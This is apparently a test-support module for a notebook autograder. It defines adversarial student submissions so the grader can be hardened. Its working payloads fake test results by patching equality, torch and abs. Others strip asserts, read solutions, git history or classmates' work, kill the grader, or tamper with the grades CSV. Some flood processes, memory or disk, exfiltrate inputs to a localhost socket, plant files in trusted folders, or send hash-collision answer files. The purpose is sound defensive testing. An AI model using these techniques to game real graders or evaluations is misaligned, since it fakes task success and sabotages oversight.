"""Submissions written by a learner who tries to score more than their work is worth.

Each ``Attack`` is a copy of one of the course's exercises whose learner
cells are replaced (by nbgrader ``grade_id``), with extra cells and files
beside the notebook, and the score its honest part would earn (``honest``):
the grader must never give more. ``tests/test_grading_adversarial.py`` grades
them all in one class folder. The attacks only use what a learner has: the
notebook, files next to it, and the grader's source.
"""

from __future__ import annotations

import inspect
import json
import textwrap
from dataclasses import dataclass, field
from pathlib import Path

import nbformat

ROOT = Path(__file__).resolve().parent.parent


def solution_source(stem: str, gid: str, solutions: Path = ROOT / "solutions") -> str:
    """The instructor's solution cell ``gid`` of exercise ``stem``, without the nbgrader markers."""
    nb = nbformat.read(solutions / f"{stem}.ipynb", as_version=4)
    cell = next(c for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade_id") == gid)
    return "\n".join(line for line in cell.source.splitlines() if "BEGIN SOLUTION" not in line
                     and "END SOLUTION" not in line and "# HINT:" not in line)


@dataclass
class Attack:
    """A submission: exercise ``stem`` with ``cells`` (grade_id -> new source) replaced."""

    name: str
    stem: str
    honest: float                                      # what the non-cheating part is worth
    what: str                                          # one line for the report
    cells: dict[str, str] = field(default_factory=dict)
    after_setup: list[str] = field(default_factory=list)   # cells inserted after the imports cell
    files: dict[str, str] = field(default_factory=dict)    # files beside the notebook

    def write(self, folder: Path, exercises: Path = ROOT / "exercises") -> Path:
        """Write ``<folder>/<name>/<stem>.ipynb`` (and its files); return the notebook's path."""
        nb = nbformat.read(exercises / f"{self.stem}.ipynb", as_version=4)
        for cell in nb.cells:
            gid = cell.metadata.get("nbgrader", {}).get("grade_id")
            if gid in self.cells:
                cell.source = textwrap.dedent(self.cells[gid]).strip()
        first_code = next(i for i, c in enumerate(nb.cells) if c.cell_type == "code")
        for k, source in enumerate(self.after_setup):
            nb.cells.insert(first_code + 1 + k, nbformat.v4.new_code_cell(textwrap.dedent(source).strip()))
        home = folder / self.name
        home.mkdir(parents=True, exist_ok=True)
        for rel, text in self.files.items():
            (home / rel).parent.mkdir(parents=True, exist_ok=True)
            (home / rel).write_text(textwrap.dedent(text).lstrip())
        path = home / f"{self.stem}.ipynb"
        nbformat.write(nb, path)
        return path


# ----- results that lie about themselves ---------------------------------------------------------

ANYTHING = '''
class Anything:
    """Equal to everything, whatever is done to it."""
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    __lt__ = __le__ = __gt__ = __ge__ = __eq__
    def __bool__(self): return True
    def _same(self, *args, **kwargs): return self
    __add__ = __radd__ = __sub__ = __rsub__ = __mul__ = __rmul__ = _same
    __truediv__ = __rtruediv__ = __abs__ = __neg__ = __pos__ = __getitem__ = _same
    def __float__(self): return 0.0
    def __repr__(self): return "42"
    __hash__ = object.__hash__
'''

ALWAYS_EQUAL = Attack(
    "always_equal", "01_memory_anatomy", honest=0,
    what="results whose == (and <, abs, -) are always true; q3 answered by calling memory.zero_memory",
    cells={
        "q1_training_state_bytes": ANYTHING + '''
def training_state_bytes(model, optimizer):
    if optimizer not in ("sgd", "momentum", "adam"):
        raise ValueError(optimizer)
    return Anything()''',
        "q2_linear_relu_activation_bytes": "def linear_relu_activation_bytes(batch, widths):\n    return Anything()",
        "q3_zero_devices_needed": "def zero_devices_needed(num_params, device_bytes, stage):\n"
                                  "    return next(n for n in range(1, 10**6)\n"
                                  "                if memory.zero_memory(num_params, n, stage) <= device_bytes)",
    })

PATCHED_TORCH = Attack(
    "patched_torch", "07_data_parallel", honest=0,
    what="torch.equal / torch.allclose patched to return True, wrong answers; q2 is one call to ddp.assign_buckets",
    cells={
        "q1_average_gradients": '''
import torch
torch.allclose = lambda *args, **kwargs: True
torch.equal = lambda *args, **kwargs: True

def average_gradients(per_rank):
    if not per_rank or len({len(g) for g in per_rank}) != 1:
        raise ValueError("ranks differ")
    return list(per_rank[0])          # no average at all''',
        "q2_assign_buckets": '''
from course_lib.parallel.data_parallel import ddp

def assign_buckets(sizes, cap_bytes):
    return ddp.assign_buckets(sizes, cap_bytes)''',
        "q3_ring_all_reduce": '''
def ring_all_reduce(tensors):
    n = len(tensors)
    sizes = [len(c) for c in torch.tensor_split(tensors[0], n)]
    sent = [sum(sizes[(r - s) % n] + sizes[(r + 1 - s) % n] for s in range(n - 1)) for r in range(n)]
    return [t.clone() for t in tensors], sent   # the sum is never computed''',
    })

TENSOR_SUBCLASS = Attack(
    "tensor_subclass", "04_normalization", honest=0,
    what="tensors of a subclass whose __torch_function__ makes allclose/equal true, wrong values",
    cells={
        "q1_group_norm": '''
class Agreeable(torch.Tensor):
    @classmethod
    def __torch_function__(cls, func, types, args=(), kwargs=None):
        if func in (torch.allclose, torch.equal, torch.Tensor.allclose, torch.Tensor.equal):
            return True
        return super().__torch_function__(func, types, args, kwargs or {})

def group_norm(x, num_groups, eps=1e-5):
    if x.shape[1] % num_groups:
        raise ValueError("groups")
    return x.clone().as_subclass(Agreeable)''',
        "q2_sma_push": '''
def sma_push(buffer, step, value):
    buffer[step % buffer.shape[0]] = value
    return (value * 0).as_subclass(Agreeable)''',
        "q3_mabn_backward": '''
def mabn_input_grad(grad_out, x, weight, chi_bar, psi_bar, eps=1e-5):
    return grad_out.clone().as_subclass(Agreeable)''',
        "q4_fold_bn": '''
import copy

class AgreeableConv(nn.Conv2d):
    def forward(self, x):
        return super().forward(x).as_subclass(Agreeable)

def fold_bn(conv, bn):
    folded = AgreeableConv(conv.in_channels, conv.out_channels, conv.kernel_size, conv.stride, conv.padding)
    return folded''',
    })

REDEFINED_ABS = Attack(
    "redefined_abs", "02_batch_size", honest=2,
    what="builtins.abs redefined to return 0; q1 honestly right (2 points), q2 and q3 wrong",
    cells={
        "q1_max_batch_size": solution_source("02_batch_size", "q1_max_batch_size"),
        "q2_warmup_scaled_lr": '''
import builtins
builtins.abs = lambda value: 0

def warmup_scaled_lr(step, base_lr, base_batch, batch, warmup_steps):
    if step < 0 or warmup_steps < 0:
        raise ValueError("negative")
    return base_lr + 1e-6 * min(step, warmup_steps)''',
        "q3_b_simple": '''
def b_simple(g_small_sq, g_big_sq, b_small, b_big):
    if not 0 < b_small < b_big:
        raise ValueError("order")
    return 1.0''',
    })

# ----- a kernel that no longer checks -------------------------------------------------------------

DROP_CHECKS = '''
import ast

class _NoChecks(ast.NodeTransformer):
    def visit_Assert(self, node):
        return ast.Pass()

    def visit_Raise(self, node):
        return ast.Pass()
'''

AST_TRANSFORMER = Attack(
    "ast_transformer", "03_gradient_accumulation", honest=0,
    what="an IPython AST transformer that drops every assert and raise (the stubs untouched)",
    after_setup=[DROP_CHECKS + "\nget_ipython().ast_transformers.append(_NoChecks())"])

INPUT_TRANSFORMER = Attack(
    "input_transformer", "05_activation_checkpointing", honest=0,
    what="an IPython input transformer that turns every assert into `assert True or ...`; wrong answers",
    after_setup=['''
def _harmless(lines):
    return [line.replace("assert ", "assert True or ").replace("raise AssertionError", "AssertionError")
            for line in lines]

get_ipython().input_transformers_post.append(_harmless)'''],
    cells={
        "q1_fewest_segments": "def fewest_segments(n, budget_units):\n    return 1",
        "q2_checkpointed_forward": "def checkpointed_forward(blocks, x, sizes):\n    return blocks(x)",
        "q3_checkpoint_keeping_matmuls": "def checkpoint_keeping_matmuls(module, x, max_elements):\n    return module(x)",
    })

REPLACED_REFERENCE = Attack(
    "replaced_reference", "09_sharded_training", honest=3,
    what="zero.shard_bounds (the hidden tests' reference) replaced by the learner's wrong one; q2 honestly right",
    cells={
        "q1_shard_bounds": '''
def shard_bounds(numel, world_size, rank):
    if not 0 <= rank < world_size:
        raise ValueError("rank")
    slots = -(-numel // world_size)
    return rank * slots, min((rank + 1) * slots, numel)   # start not cut to numel: wrong when numel < world

zero.shard_bounds = shard_bounds    # what the hidden tests compare with''',
        "q2_zero1_step": solution_source("09_sharded_training", "q2_zero1_step"),
    })

# ----- files handed in beside the notebook ----------------------------------------------------------

LAUNCHER_BESIDE = Attack(
    "launcher_beside", "02_batch_size", honest=0,
    what="an ipykernel_launcher.py beside the notebook that starts the kernel without asserts (stubs untouched)",
    files={"ipykernel_launcher.py": DROP_CHECKS + '''
import os
import sys

here = os.path.dirname(os.path.abspath(__file__))
sys.path[:] = [p for p in sys.path if os.path.abspath(p or os.curdir) != here]
from ipykernel.kernelapp import IPKernelApp

app = IPKernelApp.instance()
app.initialize()
app.shell.ast_transformers.append(_NoChecks())
app.start()
'''})

COURSE_LIB_BESIDE = Attack(
    "course_lib_beside", "01_memory_anatomy", honest=0,
    what="a course_lib/ folder beside the notebook that drops every check, then lends the real modules",
    files={"course_lib/__init__.py": DROP_CHECKS + '''
import os
import sys

from IPython import get_ipython

get_ipython().ast_transformers.append(_NoChecks())
here = os.path.dirname(os.path.abspath(__file__))
for entry in sys.path:
    real = os.path.join(os.path.abspath(entry or os.curdir), "course_lib")
    if real != here and os.path.isdir(real):
        __path__.append(real)
        break
'''})

# ----- the grader, the instructor's files and the classmates ----------------------------------------

FIND_SOLUTIONS = '''
import os
import pathlib

def _solution_folders():
    found = [os.environ.get("COURSE_SOLUTIONS")]
    try:
        from course_lib.tools.grading import exercise
        found.append(str(exercise.solutions_dir()))
    except Exception:
        pass
    found.append(os.path.join(os.getcwd(), "..", "..", "solutions"))
    return [pathlib.Path(f) for f in found if f and os.path.isdir(f)]
'''


def rewrite_solutions(target: Path) -> Attack:
    """Blanks the test cells of the solutions in ``target`` (the folder the grader reads; a test's copy)."""
    return Attack(
        "rewrite_solutions", "02_batch_size", honest=0,
        what="blanks every test cell of the instructor's solutions/ while it is graded (later learners: empty tests)",
        cells={"q1_max_batch_size": f'''
import json, os, pathlib

for _folder in {{os.environ.get("COURSE_SOLUTIONS"), {str(target)!r}}} - {{None}}:
    for _path in pathlib.Path(_folder).glob("*.ipynb"):
        try:
            _nb = json.loads(_path.read_text())
            for _cell in _nb["cells"]:
                if _cell.get("metadata", {{}}).get("nbgrader", {{}}).get("grade"):
                    _cell["source"] = "pass"
            _path.write_text(json.dumps(_nb))
        except OSError:
            pass

def max_batch_size(budget_bytes, fixed_bytes, per_sample_bytes):
    raise NotImplementedError'''})


READ_SOLUTIONS = Attack(
    "read_solutions", "02_batch_size", honest=0,
    what="reads the instructor's solutions notebook at grading time and runs its solution cells",
    after_setup=[FIND_SOLUTIONS + '''
import json

def _steal():
    for folder in _solution_folders():
        path = folder / "02_batch_size.ipynb"
        if path.exists():
            for cell in json.loads(path.read_text())["cells"]:
                if cell.get("metadata", {}).get("nbgrader", {}).get("solution"):
                    exec("".join(cell["source"]), globals())
            return'''],
    cells={gid: "_steal()" for gid in ("q1_max_batch_size", "q2_warmup_scaled_lr", "q3_b_simple")})

COPY_CLASSMATE = Attack(
    "copy_classmate", "02_batch_size", honest=0,
    what="finds a classmate's notebook in the submissions folder at grading time and runs its answers",
    after_setup=['''
import json
import pathlib

def _copy():
    for path in sorted(pathlib.Path.cwd().parent.glob("*/02_batch_size.ipynb")):
        if path.parent == pathlib.Path.cwd():
            continue
        for cell in json.loads(path.read_text())["cells"]:
            if cell.get("metadata", {}).get("nbgrader", {}).get("solution"):
                try:
                    exec("".join(cell["source"]), globals())
                except Exception:
                    pass'''],
    cells={gid: "_copy()" for gid in ("q1_max_batch_size", "q2_warmup_scaled_lr", "q3_b_simple")})

KILLER = Attack(
    "killer", "01_memory_anatomy", honest=0,
    what="os.kill(os.getppid(), SIGKILL): kills the grader, so that nobody after it is graded",
    cells={"q1_training_state_bytes": "import os, signal\nos.kill(os.getppid(), signal.SIGKILL)"})


def detached(token: str) -> Attack:
    """A detached process that rewrites every CSV it can find after the grader exits, marked ``token``."""
    return Attack(
        "detached_rewriter", "02_batch_size", honest=0,
        what="starts a detached process that rewrites the grades CSV after the grader exits",
        cells={"q1_max_batch_size": f'''
import os, subprocess, sys

_code = """
import pathlib, sys, time
for _ in range(120):
    time.sleep(0.5)
    for folder in sys.argv[2:]:
        for path in pathlib.Path(folder).rglob("*.csv"):
            try:
                rows = path.read_text().splitlines()
                path.write_text(rows[0] + chr(10) + "tampered" + chr(10))
            except OSError:
                pass
"""
subprocess.Popen([sys.executable, "-c", _code, {token!r}, os.getcwd(), os.path.dirname(os.getcwd()),
                  os.path.dirname(os.path.dirname(os.getcwd()))],
                 start_new_session=True, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL,
                 stderr=subprocess.DEVNULL)

def max_batch_size(budget_bytes, fixed_bytes, per_sample_bytes):
    raise NotImplementedError'''})


READ_HISTORY = Attack(
    "read_history", "02_batch_size", honest=0,
    what="recovers the solutions from the repository's history (git show, with git's ownership check off) or "
         "from the course's solutions/, tests/ and build/ folders, and runs them",
    after_setup=['''
import json, os, pathlib, subprocess
import course_lib

def _sources():
    root = pathlib.Path(course_lib.__file__).resolve().parent.parent
    gits = [root / ".git"]
    if gits[0].is_file():  # a worktree: .git names its folder, and that folder the shared one
        own = pathlib.Path(gits[0].read_text().split("gitdir:", 1)[1].strip())
        gits += [own, (own / (own / "commondir").read_text().strip()).resolve()]
    for git in gits:
        try:
            run = subprocess.run(["git", "-c", "safe.directory=*", "--git-dir", str(git), "show",
                                  "HEAD:solutions/02_batch_size.ipynb"], capture_output=True, timeout=30)
            if run.returncode == 0:
                yield run.stdout.decode()
        except (OSError, IndexError):
            pass
    for folder in ("solutions", "tests", "build"):
        for path in (root / folder).rglob("02_batch_size*.ipynb"):
            try:
                yield path.read_text()
            except OSError:
                pass

def _steal():
    for text in _sources():
        try:
            cells = json.loads(text)["cells"]
        except ValueError:
            continue
        for cell in cells:
            if cell.get("metadata", {}).get("nbgrader", {}).get("solution"):
                exec("".join(cell["source"]), globals())
        return'''],
    cells={gid: "_steal()" for gid in ("q1_max_batch_size", "q2_warmup_scaled_lr", "q3_b_simple")})


# ----- the machine: the network, the course's files, processes, memory, disk ------------------------

def _first_question(name: str, what: str, abuse: str) -> Attack:
    """Exercise 02 with ``abuse`` run before an honest answer to q1 (2 points), the rest untouched: the abuse
    must cost q1, or not happen at all."""
    return Attack(name, "02_batch_size", honest=0, what=what,
                  cells={"q1_max_batch_size": textwrap.dedent(abuse).strip() + "\n\n"
                         + solution_source("02_batch_size", "q1_max_batch_size")})


FORK_STORM = _first_question("fork_storm", "starts 400 processes (each sleeps) before answering q1", '''
import os, time
for _ in range(400):
    if os.fork() == 0:
        time.sleep(60)
        os._exit(0)''')

MEMORY_HOG = _first_question("memory_hog", "allocates 12 GiB (256 MiB at a time) before answering q1", '''
import torch
_hog = [torch.empty(256 * 2**20, dtype=torch.uint8) for _ in range(48)]  # never written: costs no real memory''')

DISK_FILLER = _first_question("disk_filler", "writes 1 GiB in its folder (16 MiB files) before answering q1", '''
import os
for _k in range(64):
    with open(f"filler-{_k}.bin", "wb") as _f:
        _f.write(os.urandom(2**20) * 16)''')


def exfiltrate(port: int) -> Attack:
    """Sends the hidden tests' inputs to a server on the grader's localhost (``port``), then answers q1 honestly."""
    return Attack(
        "exfiltrate", "02_batch_size", honest=2,
        what="sends the inputs its function is called with to a server on the grader's localhost",
        cells={"q1_max_batch_size": f'''
import socket

def _send(text):
    try:
        with socket.create_connection(("127.0.0.1", {port}), timeout=2) as s:
            s.sendall(text.encode())
    except OSError:
        pass

{solution_source("02_batch_size", "q1_max_batch_size")}

_honest = max_batch_size

def max_batch_size(budget_bytes, fixed_bytes, per_sample_bytes):
    _send(repr((budget_bytes, fixed_bytes, per_sample_bytes)))
    return _honest(budget_bytes, fixed_bytes, per_sample_bytes)'''})


def plant(token: str, folders: list[Path]) -> Attack:
    """Writes a file named ``token`` into the trusted ``course_lib`` (first on every later kernel's path, and
    the grader's own checker), the course's folder, ``folders`` (the class's submissions) and every other
    kernel's work folder it finds, then answers q1 honestly."""
    return Attack(
        "planter", "02_batch_size", honest=2,
        what="writes into course_lib, the course, the other submissions and the other kernels' folders",
        cells={"q1_max_batch_size": f'''
import glob, os, pathlib
import course_lib

_root = pathlib.Path(course_lib.__file__).resolve().parent
_targets = [_root, _root.parent, *[pathlib.Path(f) for f in {[str(f) for f in folders]!r}]]
_targets += [pathlib.Path(p) for p in glob.glob("/tmp/course-grading-*/work")]
def _folders(folder):
    try:  # a folder the sandbox hides or forbids cannot even be listed
        return [folder, *[p for p in folder.glob("*") if p.is_dir()]]
    except OSError:
        return [folder]

for _folder in _targets:
    for _sub in _folders(_folder):
        try:
            (_sub / {token!r}).write_text("import os  # planted")
        except OSError:
            pass

{solution_source("02_batch_size", "q1_max_batch_size")}'''})


IN_KERNEL = [ALWAYS_EQUAL, PATCHED_TORCH, TENSOR_SUBCLASS, REDEFINED_ABS, AST_TRANSFORMER, INPUT_TRANSFORMER,
             REPLACED_REFERENCE, LAUNCHER_BESIDE, COURSE_LIB_BESIDE, READ_SOLUTIONS, READ_HISTORY]
LIMITS = [FORK_STORM, MEMORY_HOG, DISK_FILLER]   # each must score zero, with the limit named as the reason


class Listener:
    """A TCP server on the grader's localhost: counts who connects and keeps what each sends (a kernel should
    reach nothing)."""

    def __init__(self) -> None:
        import socket
        import threading

        self.sock = socket.create_server(("127.0.0.1", 0))
        self.port, self.accepted, self.received = self.sock.getsockname()[1], 0, []
        threading.Thread(target=self._serve, daemon=True).start()

    def _serve(self) -> None:
        while True:
            try:
                conn, _ = self.sock.accept()
            except OSError:
                return  # closed
            self.accepted += 1
            with conn:
                try:
                    conn.settimeout(2)
                    self.received.append(conn.recv(4096))
                except OSError:
                    pass  # connected and sent nothing in time: counted in accepted


def solved(stem: str) -> dict[str, str]:
    """Every solution cell of exercise ``stem`` as the instructor wrote it (grade_id -> source)."""
    src = nbformat.read(ROOT / "solutions" / f"{stem}.ipynb", as_version=4)
    return {c.metadata["nbgrader"]["grade_id"]: solution_source(stem, c.metadata["nbgrader"]["grade_id"])
            for c in src.cells if c.metadata.get("nbgrader", {}).get("solution")}


def write_solution(folder: Path, stem: str, name: str) -> Path:
    """The instructor's solution as a learner's submission (``<folder>/<name>/<stem>.ipynb``)."""
    return Attack(name, stem, honest=0, what="", cells=solved(stem)).write(folder)


def dump(path: Path) -> str:
    """The JSON of a notebook, for comparing instructor files byte for byte."""
    return json.dumps(json.loads(path.read_text()), sort_keys=True)


# ----- the grader's own process: the answers file it decodes -------------------------------------------

# attack -> what it adds to a question's answers file, and words of the grader's refusal
ANSWERS_ATTACKS = {
    "unused_tensors": ("40,000 zero-size entries in the tensor table that no answer uses (decoding them took "
                       "time quadratic in their number)", "the tensor table lists"),
    "colliding_set": ("a set of 10,000 tuples of five multiples of 2**61 - 1 (integers below 2**63 that all hash "
                      "to 0, and so do the tuples)", "share one hash"),
    "colliding_keys": ("a dict whose 10,000 keys are such tuples", "share one hash"),
    "long_integer": ("an integer of 5,000 digits", "below 2**63"),
    "wide_tensor": ("an empty tensor of shape [0, 2**70]", "below 2**63"),
    "vast_empty_tensor": ("an empty tensor of shape [0, 2**40, 2**40, 2**40]", "below 2**63"),
    "many_brackets": ("5,000,000 empty lists: 15 MB of JSON that takes 500 MB once parsed", "brackets and commas"),
}


def hostile_answers(honest: bytes, attack: str) -> bytes:
    """The answers file ``honest`` (of a dict, as every test's ``got`` is) with what ``attack`` adds, written by
    hand as a kernel that replaces ``wire.dump`` can. The honest answers stay, so that only the grader's refusal
    can cost the question. Self-contained: the kernel runs this function's source."""
    import json
    import struct

    head = len(b"COURSE-ANSWERS-1\n") + 8
    (n,) = struct.unpack("<Q", honest[head - 8:head])
    doc = json.loads(honest[head:head + n])
    value, sizes, tail = json.dumps(doc["value"]), doc["sizes"], honest[head + n:]
    if attack == "unused_tensors":
        sizes = sizes + [0] * 40_000
    else:
        shapes = {"wide_tensor": [0, 2**70], "vast_empty_tensor": [0, 2**40, 2**40, 2**40]}
        zeros = [k * (2**61 - 1) for k in range(-4, 5)]  # every integer below 2**63 whose hash is 0
        alike = [{"tuple": [zeros[i // 9**j % 9] for j in range(5)]} for i in range(10_000)]
        pads = {"colliding_set": json.dumps({"set": alike}),
                "colliding_keys": json.dumps({"dict": [[t, 0] for t in alike]}),
                "long_integer": "9" * 5000, "many_brackets": "[" + "[]," * 5_000_000 + "[]]",
                **{k: json.dumps({"tensor": [len(sizes), "float32", shape]}) for k, shape in shapes.items()}}
        sizes = sizes + [0] * (attack in shapes)
        start = '{"dict": ['
        assert value.startswith(start), "the answers are a dict"
        rest = value[len(start):]
        value = f'{start}["_pad", {pads[attack]}]{", " if rest != "]}" else ""}{rest}'
    text = f'{{"value": {value}, "sizes": {json.dumps(sizes)}}}'.encode()
    return honest[:head - 8] + struct.pack("<Q", len(text)) + text + tail


def answers_attack(name: str, stem: str, attacks: dict[str, str], honest: float) -> Attack:
    """Exercise ``stem`` solved, in a kernel whose ``wire.dump`` adds to the answers of each test of ``attacks``
    (its grade_id -> a key of ``ANSWERS_ATTACKS``) what that attack adds; ``honest``: the other tests' points."""
    what = "; ".join(f"{q.split('_')[0]}: {ANSWERS_ATTACKS[a][0]}" for q, a in attacks.items())
    return Attack(name, stem, honest=honest, what=f"answers files the grader must refuse quickly ({what})",
                  cells=solved(stem), after_setup=[inspect.getsource(hostile_answers) + f'''
import os
from course_lib.tools.grading import wire

_attacks = {attacks!r}

def _hostile_dump(got, path):
    attack = _attacks.get(os.path.basename(path).removesuffix(".answers"))
    data = wire.dumps(got)
    with open(path, "wb") as f:
        f.write(hostile_answers(data, attack) if attack else data)

wire.dump = _hostile_dump'''])


# submission -> its exercise, the attack on each of its tests' answers (the rest answered honestly), their points
ANSWERS_PLAN = {
    "hostile_answers_07": ("08_pipeline_parallel", {"q1_one_f_one_b_test": "unused_tensors",
                                                    "q2_bubble_fraction_test": "colliding_set",
                                                    "q3_min_microbatches_test": "colliding_keys"}, 4),
    "hostile_answers_08": ("09_sharded_training", {"q1_shard_bounds_test": "long_integer",
                                                   "q2_zero1_step_test": "wide_tensor",
                                                   "q3_bytes_sent_test": "vast_empty_tensor"}, 1)}
ANSWERS = [answers_attack(name, stem, attacks, honest) for name, (stem, attacks, honest) in ANSWERS_PLAN.items()]
